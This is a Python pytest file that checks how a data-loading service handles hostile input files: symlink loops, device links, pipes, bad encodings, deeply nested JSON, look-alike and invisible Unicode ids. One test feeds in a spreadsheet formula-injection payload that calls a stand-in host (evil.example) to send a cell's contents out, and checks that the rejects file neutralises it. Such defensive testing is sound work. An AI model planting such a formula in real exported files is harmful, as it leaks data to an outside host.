"""Hostile input files (issue 12): every bad file stops with one line naming file, column and line, or its rows are
rejected one by one with a reason and counted; never a traceback, never rows lost silently."""

import gzip
import json
import os

import pandas as pd
import pytest

from service.rejects_files import write_rejects
from service.tables import Bounds, DataError, load_tables, parse_timestamp, validate_tables

GOOD = pd.DataFrame(
    {
        "order_id": ["o1", "o2", "o3"],
        "customer_id": ["a", "b", "c"],
        "order_ts": ["2025-01-01T10:00:00Z", "2025-02-01", "2025-03-01"],
        "amount": ["10.5", "20", "5"],
    }
)


def write_orders(d, df=GOOD):
    df.to_csv(d / "orders.csv", index=False)


def reasons(loaded, table):
    rej = loaded.rejects[table]
    return dict(zip(rej["_row"], rej["_reason"]))


def assert_counts_add_up(loaded):
    for name, n in loaded.rows_read.items():
        assert n == len(loaded.tables[name]) + len(loaded.rejects[name]), name


def test_symlink_loop_stops_with_the_file_named(tmp_path):
    write_orders(tmp_path)
    os.symlink(tmp_path / "reviews.csv", tmp_path / "reviews.csv")  # points at itself
    with pytest.raises(DataError, match=r"reviews\.csv: cannot read file: .*symlink loop"):
        load_tables(tmp_path)


def test_broken_symlink_stops(tmp_path):
    write_orders(tmp_path)
    os.symlink(tmp_path / "gone.csv", tmp_path / "events.csv")
    with pytest.raises(DataError, match=r"events\.csv: cannot read file"):
        load_tables(tmp_path)


def test_duplicate_header_stops_naming_the_column(tmp_path):
    (tmp_path / "orders.csv").write_text("order_id,customer_id,order_ts,amount,amount\no1,a,2025-01-01,1,2\n")
    with pytest.raises(
        DataError, match=r"orders\.csv: column 'amount' appears more than once in the header \(columns 4 and 5\)"
    ):
        load_tables(tmp_path)


def test_duplicate_key_in_a_json_line_names_the_line(tmp_path):
    lines = [
        json.dumps({"order_id": "o1", "customer_id": "a", "order_ts": "2025-01-01", "amount": 1}),
        '{"order_id": "o2", "customer_id": "a", "order_ts": "2025-01-01", "amount": 1, "amount": 5}',
    ]
    (tmp_path / "orders.jsonl").write_text("\n".join(lines) + "\n")
    with pytest.raises(DataError, match=r"orders\.jsonl line 2: key 'amount' appears more than once"):
        load_tables(tmp_path)


@pytest.mark.parametrize(
    "line, message",
    [
        ('{"order_id": "o2", "customer_id": "a", "order_ts": "2025-01-01", "amount": 1', "not valid JSON"),
        ('["o2", "a"]', "expected one JSON object per line"),
        ('{"order_id": "o2", "customer_id": "a", "order_ts": "2025-01-01", "amount": NaN}', "not valid JSON"),
    ],
)
def test_bad_json_line_names_the_line(tmp_path, line, message):
    first = json.dumps({"order_id": "o1", "customer_id": "a", "order_ts": "2025-01-01", "amount": 1})
    (tmp_path / "orders.jsonl").write_text(f"{first}\n\n{line}\n")
    with pytest.raises(DataError, match=rf"orders\.jsonl line 3: {message}"):
        load_tables(tmp_path)


def test_latin1_bytes_are_reported_by_line_not_byte_offset(tmp_path):
    text = "order_id,customer_id,order_ts,amount\no1,a,2025-01-01,1\no2,Jos\xe9,2025-01-02,1\n"
    (tmp_path / "orders.csv").write_bytes(text.encode("latin-1"))
    with pytest.raises(DataError, match=r"orders\.csv line 3: not valid UTF-8 \(byte 0xe9 at byte 7 of the line\)"):
        load_tables(tmp_path)


def test_latin1_in_gzip_and_jsonl(tmp_path):
    with gzip.open(tmp_path / "orders.csv.gz", "wb") as f:
        f.write("order_id,customer_id,order_ts,amount\no1,\xe9,2025-01-01,1\n".encode("latin-1"))
    with pytest.raises(DataError, match=r"orders\.csv\.gz line 2: not valid UTF-8"):
        load_tables(tmp_path)
    os.remove(tmp_path / "orders.csv.gz")
    (tmp_path / "orders.jsonl").write_bytes(
        b'{"order_id": "o1", "customer_id": "\xe9", "order_ts": "2025-01-01", "amount": 1}\n'
    )
    with pytest.raises(DataError, match=r"orders\.jsonl line 1: not valid UTF-8"):
        load_tables(tmp_path)


@pytest.mark.parametrize(
    "content, message",
    [
        ("", "the file is empty"),
        ("order_id,customer_id,order_ts,amount\n", "no data rows"),
    ],
)
def test_empty_and_header_only_files_stop(tmp_path, content, message):
    write_orders(tmp_path)
    (tmp_path / "reviews.csv").write_text(content)
    with pytest.raises(DataError, match=rf"reviews\.csv: {message}"):
        load_tables(tmp_path)
    (tmp_path / "reviews.csv").unlink()
    (tmp_path / "orders.csv").write_text(content)
    with pytest.raises(DataError, match=rf"orders\.csv: {message}"):
        load_tables(tmp_path)


def test_parquet_with_integer_timestamps_names_the_column(tmp_path):
    df = pd.DataFrame({"order_id": ["o1"], "customer_id": ["a"], "order_ts": [1735689600000], "amount": [1.0]})
    df.to_parquet(tmp_path / "orders.parquet")
    with pytest.raises(DataError, match=r"orders\.parquet: column 'order_ts' holds numbers \(int64\), not timestamps"):
        load_tables(tmp_path)


def test_numbers_in_a_text_timestamp_column_are_rejected_rows(tmp_path):
    lines = [
        {"order_id": "o1", "customer_id": "a", "order_ts": "2025-01-01", "amount": 1},
        {"order_id": "o2", "customer_id": "a", "order_ts": 1735689600000, "amount": 1},
        {"order_id": "o3", "customer_id": "a", "order_ts": "01/02/2025", "amount": 1},
    ]
    (tmp_path / "orders.jsonl").write_text("\n".join(json.dumps(r) for r in lines))
    loaded = load_tables(tmp_path)
    assert reasons(loaded, "orders") == {2: "unparseable order_ts", 3: "unparseable order_ts"}
    assert_counts_add_up(loaded)


def test_out_of_range_amounts_and_dates_are_rejected_rows(tmp_path):
    df = pd.DataFrame(
        {
            "order_id": [f"o{i}" for i in range(1, 10)],
            "customer_id": ["a"] * 9,
            "order_ts": [
                "2025-01-01",
                "9999-12-31",
                "0001-01-01",
                "2262-04-12",
                "1677-09-21",
                "2025-01-02",
                "2025-01-03",
                "1969-12-31T23:59:59Z",
                "2025-01-04",
            ],
            "amount": ["1", "1", "1", "1", "1", "1e308", "1e300", "1", "1000000000"],
            "n_items": ["1", "1", "1", "1", "1", "1", "1", "1", "1e12"],
        }
    )
    write_orders(tmp_path, df)
    loaded = load_tables(tmp_path)
    rng = "order_ts outside the accepted range 1970-01-01 to 2100-12-31"
    assert reasons(loaded, "orders") == {
        2: rng,
        3: rng,
        4: rng,
        5: rng,
        6: "amount above the accepted maximum 1,000,000,000",
        7: "amount above the accepted maximum 1,000,000,000",
        8: rng,
        9: "n_items above the accepted maximum 1,000,000",
    }
    assert loaded.tables["orders"]["order_id"].tolist() == ["o1"]
    assert_counts_add_up(loaded)


def test_bounds_are_configurable(monkeypatch):
    monkeypatch.setenv("INSIGHT_AMOUNT_MAX", "100")
    monkeypatch.setenv("INSIGHT_DATE_MIN", "2000-01-01")
    loaded = validate_tables(
        {
            "orders": pd.DataFrame(
                {
                    "order_id": ["o1", "o2", "o3"],
                    "customer_id": ["a"] * 3,
                    "order_ts": ["2025-01-01", "1999-06-01", "2025-01-01"],
                    "amount": ["5", "5", "101"],
                }
            )
        }
    )
    assert reasons(loaded, "orders") == {
        2: "order_ts outside the accepted range 2000-01-01 to 2100-12-31",
        3: "amount above the accepted maximum 100",
    }
    monkeypatch.setenv("INSIGHT_DATE_MAX", "1990-01-01")
    with pytest.raises(DataError, match="must be increasing"):
        Bounds.from_env()
    monkeypatch.delenv("INSIGHT_DATE_MAX")
    # 1e30 had crashed DuckDB's DECIMAL(38,9) sums; 0, a negative or NaN rejected every row, naming the rows
    for bad in ("nan", "inf", "1e31", "0", "-5"):
        monkeypatch.setenv("INSIGHT_AMOUNT_MAX", bad)
        with pytest.raises(DataError, match="INSIGHT_AMOUNT_MAX.*above 0 and at most"):
            Bounds.from_env()


def test_ids_with_nul_control_surrogates_or_too_long_are_rejected():
    # C1 controls (U+0085 NEL) and U+2028 break a line in logs and CSV readers as C0 ones do
    ids = pd.Series(
        ["ok", "bad\x00id", "tab\tid", "NEW\ud800", "x" * 129, "y" * 128, "X\x85Y", "L\u2028S"], dtype=object
    )
    loaded = validate_tables(
        {
            "orders": pd.DataFrame(
                {
                    "order_id": [f"o{i}" for i in range(8)],
                    "customer_id": ids,
                    "order_ts": ["2025-01-01"] * 8,
                    "amount": ["1"] * 8,
                }
            )
        }
    )
    assert reasons(loaded, "orders") == {
        2: "customer_id contains a control character (e.g. NUL)",
        3: "customer_id contains a control character (e.g. NUL)",
        4: "customer_id is not valid Unicode (lone surrogate)",
        5: "customer_id is longer than 128 characters",
        7: "customer_id contains a control character (e.g. NUL)",
        8: "customer_id contains a control character (e.g. NUL)",
    }
    assert loaded.tables["orders"]["customer_id"].tolist() == ["ok", "y" * 128]


@pytest.mark.parametrize(
    "bad",
    # ... and the rest of Unicode's default-ignorables: tag characters, a variation selector, the combining grapheme
    # joiner, Hangul fillers (two customers had both printed as C000001; hostile probe, stop 30)
    ["\u200b", "\ufeffC1", "C\u200d1", "x\u202eFAKE", "A\u00adB", "\u2066C1\u2069", "C000001\U000e0041", "N\ufe0f1",
     "N\u034f1", "N\u31641", "N\uffa01", "\u115fC1", "N\u20651"],
)  # fmt: skip
def test_ids_with_invisible_characters_are_rejected_as_such(bad):
    """An id of zero-width spaces, or one starting with a byte order mark, looks like another id (or none) on every
    screen; a direction override reorders it."""
    orders = pd.DataFrame(
        {"order_id": ["o1", "o2"], "customer_id": ["C1", bad], "order_ts": ["2025-01-01"] * 2, "amount": ["1"] * 2}
    )
    loaded = validate_tables({"orders": orders})
    assert reasons(loaded, "orders") == {
        2: "customer_id contains an invisible character (zero-width space, direction mark or byte order mark)"
    }
    assert loaded.tables["orders"]["customer_id"].tolist() == ["C1"]


def test_texts_are_cleaned_not_lost():
    orders = pd.DataFrame({"order_id": ["o1"], "customer_id": ["a"], "order_ts": ["2025-01-01"], "amount": ["1"]})
    reviews = pd.DataFrame(
        {
            "review_id": ["r1", "r2", "r3"],
            "customer_id": ["a"] * 3,
            "review_ts": ["2025-01-02"] * 3,
            "rating": ["5"] * 3,
            "text": pd.Series(["nul\x00byte", "lone \ud800 surrogate", "\x00\x01"], dtype=object),
        }
    )
    loaded = validate_tables({"orders": orders, "reviews": reviews})
    assert loaded.tables["reviews"]["text"].tolist() == ["nul byte", "lone \ufffd surrogate"]
    assert reasons(loaded, "reviews") == {3: "empty text"}
    for text in loaded.tables["reviews"]["text"]:
        text.encode("utf-8")  # storable everywhere (PostgreSQL refuses NUL, UTF-8 refuses lone surrogates)


def test_rejects_with_unencodable_values_are_still_written(tmp_path):
    loaded = validate_tables(
        {
            "orders": pd.DataFrame(
                {
                    "order_id": ["o1", "o2"],
                    "customer_id": pd.Series(["a", "b\ud800"], dtype=object),
                    "order_ts": ["2025-01-01"] * 2,
                    "amount": ["1", "1"],
                }
            )
        }
    )
    path = write_rejects(loaded.rejects, tmp_path)["orders"]
    assert "lone surrogate" in path.read_text()


def test_no_valid_order_at_all_stops(tmp_path):
    write_orders(tmp_path, GOOD.assign(amount="-1"))
    with pytest.raises(DataError, match=r"orders\.csv: none of the 3 orders is valid \(row 1: negative amount"):
        load_tables(tmp_path)


@pytest.mark.parametrize(
    "value, message",
    [
        ("01/02/2025", "not an ISO 8601 date"),
        ("9999-12-31", "outside the accepted range"),
        ("0001-01-01", "outside the accepted range"),
        ("2025-02-30", "not a valid date"),
        ("1735689600", "not an ISO 8601 date"),
    ],
)
def test_cutoffs_are_strict_iso_dates_in_range(value, message):
    with pytest.raises(DataError, match=message):
        parse_timestamp(value)
    assert parse_timestamp("2025-12-31", end_of_day=True) == pd.Timestamp("2025-12-31T23:59:59.999999Z")
    assert parse_timestamp("2025-12-31T10:00:00+02:00") == pd.Timestamp("2025-12-31T08:00:00Z")


ORDERS_HEADER = "order_id,customer_id,order_ts,amount\n"


def test_a_device_or_pipe_in_place_of_a_table_is_one_line_not_a_hang(tmp_path):
    """A link to /dev/zero ran forever at 100% CPU and a FIFO blocked on open."""
    (tmp_path / "orders.csv").write_text(ORDERS_HEADER + "o1,c1,2025-01-01,5\n")
    os.symlink("/dev/zero", tmp_path / "events.csv")
    with pytest.raises(DataError, match=r"events\.csv: cannot read file: it is not a regular file"):
        load_tables(tmp_path)
    os.remove(tmp_path / "events.csv")
    os.mkfifo(tmp_path / "reviews.csv")
    with pytest.raises(DataError, match=r"reviews\.csv: cannot read file: it is not a regular file"):
        load_tables(tmp_path)


def test_rows_with_more_fields_than_the_header(tmp_path):
    """Every row one field longer than the header shifted every column by one (ids read as timestamps); a trailing
    comma on every line is read right, a value there is an error naming the line."""
    (tmp_path / "orders.csv").write_text(ORDERS_HEADER + "o1,c1,2025-01-01,5,\no2,c2,2025-01-02,7,\n")
    loaded = load_tables(tmp_path)
    assert loaded.tables["orders"]["customer_id"].tolist() == ["c1", "c2"]
    (tmp_path / "orders.csv").write_text(ORDERS_HEADER + "o1,c1,2025-01-01,5,\no2,c2,2025-01-02,7,x\n")
    with pytest.raises(DataError, match=r"orders\.csv line 3: more fields than the header's 4"):
        load_tables(tmp_path)


def test_a_column_named_like_the_rejects_files_own_is_refused(tmp_path):
    """An input column '_reason' or '_row' stopped a run with a rejected row as "cannot insert _reason, already
    exists", naming no file."""
    (tmp_path / "orders.csv").write_text(ORDERS_HEADER[:-1] + ",_reason\no1,c1,2025-01-01,-5,x\n")
    with pytest.raises(DataError, match=r"orders\.csv: column '_reason' is reserved"):
        load_tables(tmp_path)


def test_json_lines_keys_are_one_column_whatever_their_spaces(tmp_path):
    """' category' in one JSON Lines row wiped the category column of every row."""
    rows = [
        {"order_id": f"o{i}", "customer_id": "c1", "order_ts": "2025-01-01", "amount": 5, "category": "toys"}
        for i in range(3)
    ]
    rows[1]["category "] = rows[1].pop("category")
    (tmp_path / "orders.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    assert load_tables(tmp_path).tables["orders"]["category"].tolist() == ["toys"] * 3
    rows[2]["amount "] = 7
    (tmp_path / "orders.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    with pytest.raises(DataError, match=r"orders\.jsonl line 3: key 'amount' appears more than once"):
        load_tables(tmp_path)


def test_iso_8601_with_a_lower_case_z_or_a_decimal_comma_is_read():
    """Both are ISO 8601 and matched the accepted pattern, but were rejected as unparseable."""
    orders = pd.DataFrame(
        {
            "order_id": ["a", "b", "c"],
            "customer_id": ["c1"] * 3,
            "order_ts": ["2024-03-01T10:00:00z", "2024-03-01T10:00:00,250Z", "2024-03-01T10:00:00,5+01:00"],
            "amount": ["1"] * 3,
        }
    )
    loaded = validate_tables({"orders": orders})
    assert len(loaded.rejects["orders"]) == 0
    assert [str(t) for t in loaded.tables["orders"]["order_ts"]] == [
        "2024-03-01 10:00:00+00:00",
        "2024-03-01 10:00:00.250000+00:00",
        "2024-03-01 09:00:00.500000+00:00",
    ]
    assert str(parse_timestamp("2025-12-31T23:00:00,5z", "cutoff")) == "2025-12-31 23:00:00.500000+00:00"


def test_json_lines_with_a_bom_deep_nesting_and_parquet_bytes(tmp_path):
    """A JSON Lines file with a BOM was refused (CSV with one is read); a row nested 100,000 deep said "maximum
    recursion depth exceeded" with no line; a Parquet binary id became "b'c1'" and every order an unknown customer."""
    row = {"order_id": "o1", "customer_id": "c1", "order_ts": "2025-01-01", "amount": 5}
    (tmp_path / "orders.jsonl").write_bytes(b"\xef\xbb\xbf" + json.dumps(row).encode() + b"\n")
    assert load_tables(tmp_path).tables["orders"]["customer_id"].tolist() == ["c1"]
    (tmp_path / "orders.jsonl").write_text(json.dumps(row) + "\n" + "[" * 100_000 + "]" * 100_000 + "\n")
    with pytest.raises(DataError, match=r"orders\.jsonl line 2: nested too deeply"):
        load_tables(tmp_path)
    os.remove(tmp_path / "orders.jsonl")
    pd.DataFrame({k: [v.encode() if isinstance(v, str) else v] for k, v in row.items()}).to_parquet(
        tmp_path / "orders.parquet"
    )
    loaded = load_tables(tmp_path)
    assert loaded.tables["orders"]["customer_id"].tolist() == ["c1"] and len(loaded.rejects["orders"]) == 0


def test_parquet_with_a_column_twice_a_header_of_nul_bytes_and_half_stars(tmp_path):
    """A Parquet column written twice gave pyarrow's 13-line dump; a header-only file of NUL bytes echoed 100 kB of
    them in the error; a rating of 4.5 was called "outside 1-5"."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    t = pa.table({"order_id": ["o1"], "customer_id": ["c1"], "order_ts": ["2025-01-01"], "amount": ["5"]})
    pq.write_table(t.append_column("amount", pa.array(["6"])), tmp_path / "orders.parquet")
    with pytest.raises(DataError, match=r"orders\.parquet: column 'amount' appears more than once"):
        load_tables(tmp_path)
    os.remove(tmp_path / "orders.parquet")
    (tmp_path / "orders.csv").write_bytes(b"\x00" * 100_000)
    with pytest.raises(DataError) as exc:
        load_tables(tmp_path)
    assert len(str(exc.value)) < 400 and "\x00" not in str(exc.value)
    (tmp_path / "orders.csv").write_text(ORDERS_HEADER + "o1,c1,2025-01-01,5\n")
    reviews = "review_id,customer_id,review_ts,rating,text\nr1,c1,2025-01-02,4.5,ok\nr2,c1,2025-01-02,6,ok\n"
    (tmp_path / "reviews.csv").write_text(reviews)
    assert reasons(load_tables(tmp_path), "reviews") == {
        1: "rating is not a whole number of stars (1-5)",
        2: "rating outside 1-5",
    }


def test_ids_that_look_the_same_are_one_customer_or_a_clear_reject(tmp_path):
    """'Jos\u00e9' written with a separate accent (NFD) is rejected with its reason, not kept as a second customer;
    a JSON export's float id 12346.0 is the customer 12346."""
    csv = tmp_path / "csv"
    csv.mkdir()
    rows = "order_id,customer_id,order_ts,amount\nO1,Jos\u00e9,2024-01-01,5\nO2,Jose\u0301,2024-01-02,6\n"
    (csv / "orders.csv").write_text(rows, encoding="utf-8")
    loaded = load_tables(csv)
    assert list(loaded.tables["orders"]["customer_id"]) == ["Jos\u00e9"]
    assert "not in Unicode normal form NFC" in loaded.rejects["orders"]["_reason"].iloc[0]
    jsonl = tmp_path / "jsonl"
    jsonl.mkdir()
    (jsonl / "orders.jsonl").write_text(
        '{"order_id": "O1", "customer_id": 12346, "order_ts": "2024-01-01", "amount": 5}\n'
        '{"order_id": "O2", "customer_id": 12346.0, "order_ts": "2024-01-02", "amount": 6.0}\n'
    )
    loaded = load_tables(jsonl)
    assert set(loaded.tables["orders"]["customer_id"]) == {"12346"}
    assert list(loaded.tables["orders"]["amount"]) == [5.0, 6.0]


def test_the_accepted_date_range_is_judged_in_utc():
    """'1969-12-31T23:30-01:00' is 1970-01-01 00:30 UTC, inside the range: it had been rejected by its local year."""
    raw = {
        "orders": pd.DataFrame(
            {
                "order_id": ["O1", "O2", "O3"],
                "customer_id": ["C1", "C1", "C1"],
                "order_ts": ["1969-12-31T23:30:00-01:00", "2101-01-01T00:30:00+01:00", "1969-12-31T23:30:00+00:00"],
                "amount": ["5", "6", "7"],
            }
        )
    }
    loaded = validate_tables(raw, sources={})
    assert list(loaded.tables["orders"]["order_id"]) == ["O1", "O2"]
    assert "outside the accepted range" in loaded.rejects["orders"]["_reason"].iloc[0]


def test_an_unclosed_quote_and_a_semicolon_file_are_told_as_they_are(tmp_path):
    """An unclosed quote is named by the line it opens on (pandas' 0-based 'row 2' had been passed on for line 3);
    a ';'-separated file with decimal commas is told its separator, not to quote a field."""
    (tmp_path / "orders.csv").write_text(
        'order_id,customer_id,order_ts,amount\nO1,C1,2024-01-01,5\nO2,"C2,2024-01-02,6\nO3,C3,2024-01-03,7\n'
    )
    with pytest.raises(DataError, match=r"orders\.csv line 3: a quote is opened and never closed"):
        load_tables(tmp_path)
    (tmp_path / "orders.csv").write_text("order_id;customer_id;order_ts;amount\nO1;C1;2024-01-01;5,5\n")
    with pytest.raises(DataError, match=r"the header looks separated by ';'.*save the file with commas"):
        load_tables(tmp_path)


def test_the_rejects_file_neither_runs_formulas_nor_holds_contact_data(tmp_path):
    """Rejected cells were written as they stood: "=HYPERLINK(...)" ran when the file was opened in a spreadsheet, and
    a card number typed into amount or an address into order_ts was kept (hostile probe, stop 30, F4 and F5)."""
    loaded = validate_tables(
        {
            "orders": pd.DataFrame(
                {
                    "order_id": ["o1", "o2", "o3", "o4", "o5"],
                    "customer_id": ["a", "b", "c", "d", "e"],
                    "order_ts": ["2025-01-01", "john.doe@example.com", "2025-01-01", "2025-01-01", "2025-01-01"],
                    "amount": [
                        "4111 1111 1111 1111",
                        "1",
                        '=HYPERLINK("http://evil.example/?x="&B2,"fix")',
                        "-5",
                        "@SUM(1+1)",
                    ],
                }
            )
        }
    )
    back = pd.read_csv(write_rejects(loaded.rejects, tmp_path)["orders"], dtype=str, keep_default_na=False)
    cells = set(back["amount"]) | set(back["order_ts"])
    assert "[card]" in cells and "[email]" in cells
    assert not any(c.startswith(("=", "@", "+")) for c in cells), cells
    assert '\'=HYPERLINK("http://evil.example/?x="&B2,"fix")' in cells and "'@SUM(1+1)" in cells
    assert "-5" in cells  # a plain number is not a formula


def test_statuses_shops_export_for_no_spend_are_no_spend_and_look_alikes_are_rejected():
    """'refund', 'void', 'chargeback' and 'returned' with a zero-width space had counted as spend; 'returned' written
    with a Cyrillic e too, silently (hostile probe, stop 30, F10)."""
    from service.table_schema import NON_SPEND_STATUSES

    statuses = ["refund", "void", "chargeback", "returned\u200b", "Storniert", "r\u0435turned", "delivered"]
    loaded = validate_tables(
        {
            "orders": pd.DataFrame(
                {
                    "order_id": [f"o{i}" for i in range(len(statuses))],
                    "customer_id": ["a"] * len(statuses),
                    "order_ts": ["2025-01-01"] * len(statuses),
                    "amount": ["100"] * len(statuses),
                    "status": statuses,
                }
            )
        }
    )
    kept = loaded.tables["orders"]
    assert [s in NON_SPEND_STATUSES for s in kept["status"]] == [True] * 5 + [False]
    assert reasons(loaded, "orders") == {6: "status mixes Latin letters with look-alike letters of another script"}


def test_an_unclosed_quote_after_a_very_long_field_is_named_by_its_own_line(tmp_path):
    """A 210,000-character review on line 2 had made the scan stop there and name line 2 (hostile probe, stop 30,
    F11)."""
    long_text = "x" * 210_000
    (tmp_path / "orders.csv").write_text("order_id,customer_id,order_ts,amount\nO1,C1,2024-01-01,5\n")
    (tmp_path / "reviews.csv").write_text(
        "review_id,customer_id,review_ts,rating,text\n"
        f'R1,C1,2024-01-02,5,"{long_text}"\nR2,C1,2024-01-03,4,"never closed\nR3,C1,2024-01-04,4,ok\n'
    )
    with pytest.raises(DataError, match=r"reviews\.csv line 3: a quote is opened and never closed"):
        load_tables(tmp_path)
